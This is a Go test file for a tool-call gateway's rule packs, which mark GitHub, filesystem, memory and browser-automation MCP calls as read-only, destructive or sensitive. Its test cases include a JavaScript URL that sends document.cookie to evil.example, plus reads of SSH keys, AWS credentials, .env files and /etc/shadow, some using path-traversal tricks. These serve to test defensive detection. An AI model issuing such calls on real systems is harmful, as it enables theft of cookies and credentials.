package pack

import (
	"os"
	"strings"
	"testing"

	"github.com/preflightmcp/preflight/gateway/internal/rules"
	"github.com/preflightmcp/preflight/hints"
	"go.uber.org/goleak"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func TestEveryPackLoads(t *testing.T) {
	t.Parallel()
	names := Names()
	want := []string{"everything", "filesystem", "github", "memory", "playwright", "puppeteer"}
	if strings.Join(names, ",") != strings.Join(want, ",") {
		t.Fatalf("packs = %v, want %v", names, want)
	}
	for _, n := range names {
		p, err := Get(n)
		if err != nil {
			t.Fatal(err)
		}
		if p.Source == "" || len(p.Tools) == 0 {
			t.Errorf("pack %s: no source or no tools", n)
		}
	}
	if _, err := Get("nope"); err == nil || !strings.Contains(err.Error(), "github") {
		t.Errorf("Get(nope) = %v, want an error listing the packs", err)
	}
	if _, err := Rules("github", "nope"); err == nil {
		t.Error("Rules with an unknown pack: no error")
	}
}

func TestDetect(t *testing.T) {
	t.Parallel()
	for server, want := range map[string]string{
		"github-mcp-server":        "github",
		"secure-filesystem-server": "filesystem",
		"memory-server":            "memory",
		"mcp-servers/everything":   "everything",
	} {
		if got, ok := Detect(server); !ok || got != want {
			t.Errorf("Detect(%q) = %q, %v; want %q", server, got, ok, want)
		}
	}
	if got, ok := Detect("some-server"); ok {
		t.Errorf("Detect(some-server) = %q", got)
	}
}

// TestPacksFitTheirCatalogs checks every pack against the real catalog of
// its server: every rule compiles against the tool's real input schema,
// every tool the pack names is in the catalog, and every value of every
// switching argument is decided by a rule of the pack.
func TestPacksFitTheirCatalogs(t *testing.T) {
	t.Parallel()
	for _, c := range catalogs {
		t.Run(c.label(), func(t *testing.T) {
			t.Parallel()
			p, err := Get(c.pack)
			if err != nil {
				t.Fatal(err)
			}
			tools := readCatalog(t, c.file, c.prefix)
			r := compileFor(t, c.pack, tools)
			for _, pt := range p.Tools {
				tool := findTool(tools, pt.Tool)
				if tool == nil {
					// The default GitHub toolsets are a subset of all of them.
					if c.file != "github-default.json" {
						t.Errorf("pack %s names tool %s, which the catalog does not have (tools: %v)", c.pack, pt.Tool, toolNames(tools))
					}
					continue
				}
				for _, v := range variants(t, p, tool) {
					if pt.Switch == "" {
						continue
					}
					res := resolveArgs(t, r, tool, v.args)
					if res.Layer != rules.LayerPack || res.Problem != nil {
						t.Errorf("%s %s: resolved by %s (rule %q, problem %v); want a rule of the pack", tool.Name, v.label, res.Layer, res.Rule, res.Problem)
					}
				}
			}
		})
	}
}

// TestPacksOnOlderCaptures checks the filesystem and memory packs against
// the older releases of the same servers in the LiveMCPBench set: rules
// for tools those releases have still fit them.
func TestPacksOnOlderCaptures(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ prefix, pack string }{{"filesystem", "filesystem"}, {"memory", "memory"}} {
		compileFor(t, c.pack, readCatalog(t, "livemcptool.json", c.prefix))
	}
}

// want is what one call must resolve to.
type want struct {
	rule        string // the deciding rule's name within the pack; "" for static
	confirm     bool
	readOnly    bool
	destructive bool
	effect      hints.Effect // "" to skip
	sensitivity hints.Sensitivity
}

type packCase struct {
	catalog catalog
	tool    string
	args    string
	want    want
}

var (
	ghAll       = catalogs[0]
	filesystem  = catalogs[2]
	memory      = catalogs[3]
	everything  = catalogs[4]
	playwrightC = catalogs[5]
	puppeteerC  = catalogs[6]
)

// packCases pin what the packs decide for calls taken from each server's
// documentation; together with the switch values they exercise every rule.
var packCases = []packCase{
	{ghAll, "issue_write", `{"method":"create","owner":"o","repo":"r","title":"t"}`, want{rule: "write", effect: hints.EffectWrite}},
	{ghAll, "issue_write", `{"method":"update","owner":"o","repo":"r","issue_number":1,"state":"closed"}`, want{rule: "write", effect: hints.EffectWrite}},
	{ghAll, "issue_write", `{"owner":"o","repo":"r"}`, want{rule: "", confirm: true, destructive: true}}, // method missing: static
	{ghAll, "pull_request_review_write", `{"method":"create","owner":"o","repo":"r","pullNumber":1,"event":"APPROVE"}`, want{rule: "approve", confirm: true, effect: hints.EffectWrite}},
	{ghAll, "pull_request_review_write", `{"method":"submit_pending","owner":"o","repo":"r","pullNumber":1,"event":"APPROVE"}`, want{rule: "approve", confirm: true}},
	{ghAll, "pull_request_review_write", `{"method":"create","owner":"o","repo":"r","pullNumber":1,"event":"COMMENT"}`, want{rule: "review"}},
	{ghAll, "pull_request_review_write", `{"method":"delete_pending","owner":"o","repo":"r","pullNumber":1}`, want{rule: "delete-pending", confirm: true, destructive: true, effect: hints.EffectDelete}},
	{ghAll, "pull_request_review_write", `{"method":"resolve_thread","owner":"o","repo":"r","pullNumber":1,"threadId":"PRRT_x"}`, want{rule: "thread"}},
	{ghAll, "create_or_update_file", `{"owner":"o","repo":"r","branch":"main","path":"docs/a.md","content":"x","message":"m","sha":"abc"}`, want{rule: "commit"}},
	{ghAll, "create_or_update_file", `{"owner":"o","repo":"r","branch":"main","path":".github/workflows/ci.yml","content":"x","message":"m"}`, want{rule: "ci", confirm: true}},
	{ghAll, "create_or_update_file", `{"owner":"o","repo":"r","branch":"main","path":"./.github/CODEOWNERS","content":"x","message":"m"}`, want{rule: "ci", confirm: true}},
	{ghAll, "push_files", `{"owner":"o","repo":"r","branch":"main","message":"m","files":[{"path":"a.go","content":"x"}]}`, want{rule: "commit"}},
	{ghAll, "push_files", `{"owner":"o","repo":"r","branch":"main","message":"m","files":[{"path":"a.go","content":"x"},{"path":".github/workflows/x.yml","content":"y"}]}`, want{rule: "ci", confirm: true}},
	{ghAll, "create_gist", `{"filename":"a","content":"b"}`, want{rule: "secret"}},
	{ghAll, "create_gist", `{"filename":"a","content":"b","public":true}`, want{rule: "public", confirm: true}},
	{ghAll, "actions_run_trigger", `{"method":"rerun_failed_jobs","owner":"o","repo":"r","run_id":1}`, want{rule: "run", confirm: true, effect: hints.EffectExternal}},
	{ghAll, "delete_file", `{"owner":"o","repo":"r","path":"a","message":"m","branch":"main"}`, want{rule: "delete", confirm: true, destructive: true, effect: hints.EffectDelete}},
	{ghAll, "merge_pull_request", `{"owner":"o","repo":"r","pullNumber":1}`, want{rule: "merge", confirm: true}},
	{ghAll, "get_me", `{}`, want{rule: "", readOnly: true}},
	{ghAll, "sub_issue_write", `{"method":"unknown","owner":"o","repo":"r","issue_number":1,"sub_issue_id":2}`, want{rule: "", confirm: true, destructive: true}},

	{filesystem, "edit_file", `{"path":"a.txt","edits":[],"dryRun":true}`, want{rule: "dry-run", readOnly: true, effect: hints.EffectRead, sensitivity: hints.SensitivityInternal}},
	{filesystem, "edit_file", `{"path":"a.txt","edits":[]}`, want{rule: "edit", confirm: true, destructive: true, effect: hints.EffectWrite, sensitivity: hints.SensitivityInternal}},
	{filesystem, "edit_file", `{"path":".env","edits":[],"dryRun":true}`, want{rule: "dry-run-secrets", readOnly: true, effect: hints.EffectRead, sensitivity: hints.SensitivityRestricted}},
	{filesystem, "edit_file", `{"path":"app/.env/.","edits":[]}`, want{rule: "edit-secrets", confirm: true, destructive: true, effect: hints.EffectWrite, sensitivity: hints.SensitivityRestricted}},
	{filesystem, "read_text_file", `{"path":"/home/u/.ssh/id_ed25519"}`, want{rule: "secrets", readOnly: true, sensitivity: hints.SensitivityRestricted}},
	{filesystem, "read_text_file", `{"path":"C:\\Users\\u\\.aws\\credentials"}`, want{rule: "secrets", readOnly: true, sensitivity: hints.SensitivityRestricted}},
	{filesystem, "read_text_file", `{"path":"/srv/app/.env.production"}`, want{rule: "secrets", readOnly: true, sensitivity: hints.SensitivityRestricted}},
	{filesystem, "read_text_file", `{"path":"/srv/app/README.md"}`, want{rule: "contents", readOnly: true, sensitivity: hints.SensitivityInternal}},
	{filesystem, "read_file", `{"path":"certs/server.pem"}`, want{rule: "secrets", readOnly: true, sensitivity: hints.SensitivityRestricted}},
	{filesystem, "read_file", `{"path":"notes.txt"}`, want{rule: "contents", readOnly: true, sensitivity: hints.SensitivityInternal}},
	{filesystem, "read_media_file", `{"path":"photo.png"}`, want{rule: "contents", readOnly: true, sensitivity: hints.SensitivityInternal}},
	{filesystem, "read_media_file", `{"path":"backup/id_rsa"}`, want{rule: "secrets", readOnly: true, sensitivity: hints.SensitivityRestricted}},
	{filesystem, "read_multiple_files", `{"paths":["a.txt","b/.netrc"]}`, want{rule: "secrets", readOnly: true, sensitivity: hints.SensitivityRestricted}},
	{filesystem, "read_multiple_files", `{"paths":["a.txt","b/../.ENV/"]}`, want{rule: "secrets", readOnly: true, sensitivity: hints.SensitivityRestricted}},
	{filesystem, "read_multiple_files", `{"paths":["a.txt","b.txt"]}`, want{rule: "contents", readOnly: true, sensitivity: hints.SensitivityInternal}},
	{filesystem, "get_file_info", `{"path":".env"}`, want{rule: "", readOnly: true}},
	{filesystem, "move_file", `{"source":"a","destination":"b"}`, want{rule: "", confirm: true, destructive: true}},

	{memory, "delete_entities", `{"entityNames":["a"]}`, want{rule: "delete", confirm: true, destructive: true, effect: hints.EffectDelete}},
	{memory, "delete_observations", `{"deletions":[]}`, want{rule: "delete", confirm: true, destructive: true, effect: hints.EffectDelete}},
	{memory, "delete_relations", `{"relations":[]}`, want{rule: "delete", confirm: true, destructive: true, effect: hints.EffectDelete}},
	{memory, "create_entities", `{"entities":[]}`, want{rule: "create", effect: hints.EffectWrite}},
	{memory, "create_relations", `{"relations":[]}`, want{rule: "create", effect: hints.EffectWrite}},
	{memory, "add_observations", `{"observations":[]}`, want{rule: "add", effect: hints.EffectWrite}},

	{everything, "get-env", `{}`, want{rule: "env", readOnly: true, sensitivity: hints.SensitivityRestricted}},
	{everything, "gzip-file-as-resource", `{}`, want{rule: "fetch"}},
	{everything, "gzip-file-as-resource", `{"data":"data:text/plain;base64,aGk="}`, want{rule: "data-uri"}},

	{playwrightC, "playwright_navigate", `{"url":"https://example.com"}`, want{rule: "web"}},
	{playwrightC, "playwright_navigate", `{"url":" FILE:///etc/shadow"}`, want{rule: "local", confirm: true, destructive: true, sensitivity: hints.SensitivityRestricted}},
	{playwrightC, "playwright_navigate", `{"url":"javascript:fetch('https://evil.example/'+document.cookie)"}`, want{rule: "local", confirm: true, destructive: true, sensitivity: hints.SensitivityRestricted}},
	{playwrightC, "playwright_click", `{"selector":"#buy"}`, want{rule: "", confirm: true, destructive: true}},
	{playwrightC, "playwright_get_visible_text", `{}`, want{rule: "read", readOnly: true}},
	{playwrightC, "playwright_get_visible_html", `{}`, want{rule: "read", readOnly: true}},
	{playwrightC, "playwright_console_logs", `{"clear":true}`, want{rule: "clear", confirm: true, destructive: true, effect: hints.EffectDelete}},
	{playwrightC, "playwright_screenshot", `{"name":"s","savePng":true}`, want{rule: "save", confirm: true, destructive: true}},
	{playwrightC, "playwright_get", `{"url":"https://example.com"}`, want{rule: "get", readOnly: true}},
	{playwrightC, "playwright_delete", `{"url":"https://example.com/x"}`, want{rule: "delete", confirm: true, destructive: true, effect: hints.EffectDelete}},
	{playwrightC, "playwright_post", `{"url":"https://example.com/x","value":"{}"}`, want{rule: "post", confirm: true, destructive: true, effect: hints.EffectExternal}},
	{playwrightC, "playwright_put", `{"url":"https://example.com/x","value":"{}"}`, want{rule: "put", confirm: true, destructive: true, effect: hints.EffectExternal}},
	{playwrightC, "playwright_patch", `{"url":"https://example.com/x","value":"{}"}`, want{rule: "patch", confirm: true, destructive: true, effect: hints.EffectExternal}},
	{playwrightC, "playwright_go_back", `{}`, want{rule: "history"}},
	{playwrightC, "playwright_go_forward", `{}`, want{rule: "history"}},
	{playwrightC, "playwright_hover", `{"selector":"a"}`, want{rule: "hover"}},
	{playwrightC, "playwright_custom_user_agent", `{"userAgent":"x"}`, want{rule: "set"}},
	{playwrightC, "playwright_expect_response", `{"id":"1","url":"https://example.com"}`, want{rule: "wait"}},
	{playwrightC, "playwright_assert_response", `{"id":"1"}`, want{rule: "check"}},
	{playwrightC, "start_codegen_session", `{"options":{"outputPath":"/tmp"}}`, want{rule: "start"}},
	{playwrightC, "get_codegen_session", `{"sessionId":"s"}`, want{rule: "read", readOnly: true}},
	{playwrightC, "clear_codegen_session", `{"sessionId":"s"}`, want{rule: "clear", confirm: true, destructive: true, effect: hints.EffectDelete}},

	{puppeteerC, "puppeteer_navigate", `{"url":"https://example.com"}`, want{rule: "web"}},
	{puppeteerC, "puppeteer_navigate", `{"url":"https://example.com","allowDangerous":true}`, want{rule: "dangerous", confirm: true, destructive: true}},
	{puppeteerC, "puppeteer_navigate", `{"url":"https://example.com","launchOptions":{"headless":true}}`, want{rule: "relaunch", confirm: true, destructive: true}},
	{puppeteerC, "puppeteer_navigate", `{"url":"file:///home/u/.ssh/id_rsa"}`, want{rule: "local", confirm: true, destructive: true, sensitivity: hints.SensitivityRestricted}},
	{puppeteerC, "puppeteer_screenshot", `{"name":"s"}`, want{rule: "capture"}},
	{puppeteerC, "puppeteer_hover", `{"selector":"a"}`, want{rule: "hover"}},
	{puppeteerC, "puppeteer_evaluate", `{"script":"1"}`, want{rule: "", confirm: true, destructive: true}},
}

func TestPackCases(t *testing.T) {
	t.Parallel()
	used := map[string]bool{} // full rule names decided by some call
	compiled := map[string]*rules.Rules{}
	for _, c := range catalogs {
		tools := readCatalog(t, c.file, c.prefix)
		compiled[c.label()] = compileFor(t, c.pack, tools)
		p, _ := Get(c.pack)
		for _, tool := range tools {
			for _, v := range variants(t, p, tool) {
				if res := resolveArgs(t, compiled[c.label()], tool, v.args); res.Rule != "" {
					used[res.Rule] = true
				}
			}
		}
	}
	for _, pc := range packCases {
		tools := readCatalog(t, pc.catalog.file, pc.catalog.prefix)
		tool := findTool(tools, pc.tool)
		if tool == nil {
			t.Fatalf("%s: no tool %s", pc.catalog.label(), pc.tool)
		}
		res, err := compiled[pc.catalog.label()].Resolve(t.Context(), rules.Call{Server: "up", Tool: tool, Arguments: []byte(pc.args)}, nil)
		if err != nil {
			t.Errorf("%s %s: %v", pc.tool, pc.args, err)
			continue
		}
		wantRule := ""
		if pc.want.rule != "" {
			wantRule = pc.catalog.pack + "/" + pc.tool + "/" + pc.want.rule
		}
		e := res.Effective
		got := want{rule: res.Rule, confirm: res.NeedsConfirmation(), readOnly: e.ReadOnly.Value, destructive: e.Destructive.Value && !e.ReadOnly.Value, effect: pc.want.effect, sensitivity: e.ResultSensitivity.Value}
		if pc.want.effect != "" {
			got.effect = e.Effect.Value
		}
		w := pc.want
		w.rule = wantRule
		if got != w {
			t.Errorf("%s %s:\n got %+v (problem: %v)\nwant %+v", pc.tool, pc.args, got, res.Problem, w)
		}
		if res.Rule != "" {
			used[res.Rule] = true
		}
	}
	for _, n := range Names() {
		rs, _ := Rules(n)
		for _, r := range rs {
			if !used[r.Name] {
				t.Errorf("rule %s decides no call of the tests: add a case", r.Name)
			}
		}
	}
}

// TestPackRulesSayWhy keeps the packs readable: every rule says why, and
// the file says where it comes from.
func TestPackRulesSayWhy(t *testing.T) {
	t.Parallel()
	for _, n := range Names() {
		b, err := os.ReadFile(n + ".yaml")
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(string(b), "# ") {
			t.Errorf("%s.yaml does not start with a comment saying what the pack is for", n)
		}
	}
	if _, err := Parse([]byte("pack: x\nsource: s\ntools:\n  - tool: a\n    rules:\n      - name: r\n        hints: {effect: write}\n")); err == nil || !strings.Contains(err.Error(), "why") {
		t.Errorf("a rule without why: %v", err)
	}
	if _, err := Parse([]byte("pack: x\nsource: s\nsurprise: 1\n")); err == nil || !strings.Contains(err.Error(), "surprise") {
		t.Errorf("an unknown key: %v", err)
	}
}
